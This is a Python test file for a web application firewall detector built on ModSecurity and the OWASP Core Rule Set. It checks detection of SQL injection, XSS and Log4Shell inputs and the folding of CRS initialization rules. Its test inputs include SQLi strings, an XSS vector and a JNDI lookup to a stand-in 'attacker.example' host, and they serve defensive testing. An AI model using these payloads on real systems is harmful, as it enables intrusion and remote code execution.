"""ModSecurity + OWASP CRS as the detector: what it reports and what it remembers."""

from __future__ import annotations

from pathlib import Path

import pytest

from lamina.gateway.waf.detect import Attack, CrsDetector, compact_initialization


def test_detection_names_crs_rules_and_benign_input_passes() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    found = sqli.detect([b"1' UNION SELECT password FROM users--"])
    assert found is not None and all(942000 <= rule < 943000 for rule in found)
    assert sqli.detect([b"Conan O'Brien"]) is None
    assert sqli.detect([b"", b""]) is None  # nothing to inspect


def test_any_element_is_enough() -> None:
    xss = CrsDetector(Attack.XSS, 1)
    assert xss.detect([b"hello", b"<svg/onload=alert(1)>", b"world"]) is not None
    assert xss.detect([b"hello", b"world"]) is None


def test_repeated_input_gets_the_same_verdict_and_rules() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    first = sqli.detect([b"1' or '1'='1"])
    sqli.detect([b"1 AND SLEEP(5)"])  # another attack in between changes last_rules
    again = sqli.detect([b"1' or '1'='1"])
    assert first is not None and again == first and sqli.last_rules == first
    assert sqli.detect([b"red shoes"]) is None and sqli.detect([b"red shoes"]) is None


def test_long_input_is_inspected_every_time() -> None:
    sqli = CrsDetector(Attack.SQLI, 1)
    long_attack = b"x" * 600 + b"' UNION SELECT password FROM users--"
    assert sqli.detect([long_attack]) is not None
    assert sqli.detect([long_attack]) is not None


def test_paranoia_level_two_is_stricter() -> None:
    assert CrsDetector(Attack.SQLI, 1).detect([b"order by price"]) is None
    assert CrsDetector(Attack.SQLI, 2).detect([b"order by price"]) is not None


def test_java_rules_catch_log4shell() -> None:
    java = CrsDetector(Attack.JAVA, 1)
    assert java.detect([b"${jndi:ldap://attacker.example/a}"]) is not None
    assert java.detect([b"${project.version}"]) is None


CORPUS = Path(__file__).resolve().parents[3] / "fixtures" / "waf"


def test_folded_initialization_sets_the_defaults_in_one_action() -> None:
    preset = frozenset({"blocking_paranoia_level", "crs_setup_version"})
    text = compact_initialization(preset)
    folded = [line for line in text.splitlines() if line.startswith("SecAction")]
    assert len(folded) == 1
    assert "setvar:'tx.inbound_anomaly_score_threshold=5'" in folded[0]
    assert "setvar:'tx.anomaly_score=0'" in folded[0]  # 901200's resets are folded too
    assert "tx.blocking_paranoia_level=1" not in folded[0]  # the setup's value stays
    assert "&TX:inbound_anomaly_score_threshold" not in text
    # The rules that depend on the request, or deny, are kept as written.
    for kept in ("id:901001", "id:901340", "id:901400", "id:901500"):
        assert kept in text
    # Only the variables later rules read, and those their values name, stay set.
    narrow = compact_initialization(preset, frozenset({"detection_paranoia_level"}))
    assert "tx.detection_paranoia_level=%{TX.blocking_paranoia_level}" in narrow
    assert "tx.sampling_percentage=100" in narrow  # read by the kept sampling rule 901400
    assert "tx.inbound_anomaly_score_threshold" not in narrow
    assert "tx.restricted_extensions" not in narrow


@pytest.mark.parametrize("attack", [Attack.SQLI, Attack.XSS])
@pytest.mark.parametrize("paranoia", [1, 2])
def test_folded_initialization_decides_as_crs_901_does(attack: Attack, paranoia: int) -> None:
    """Every corpus string, raw: the same CRS rules fire with 901 folded or as written."""
    folded = CrsDetector(attack, paranoia)
    reference = CrsDetector(attack, paranoia, fold_defaults=False)
    lines = [
        line.encode()
        for name in ("sqli.txt", "xss.txt", "benign.txt")
        for line in (CORPUS / name).read_text(encoding="utf-8").splitlines()
        if line.strip()
    ][::3]  # a third of each corpus keeps the test quick
    found = 0
    for line in lines:
        expected = reference.detect([line])
        assert folded.detect([line]) == expected, line
        found += expected is not None
    assert 0 < found < len(lines)
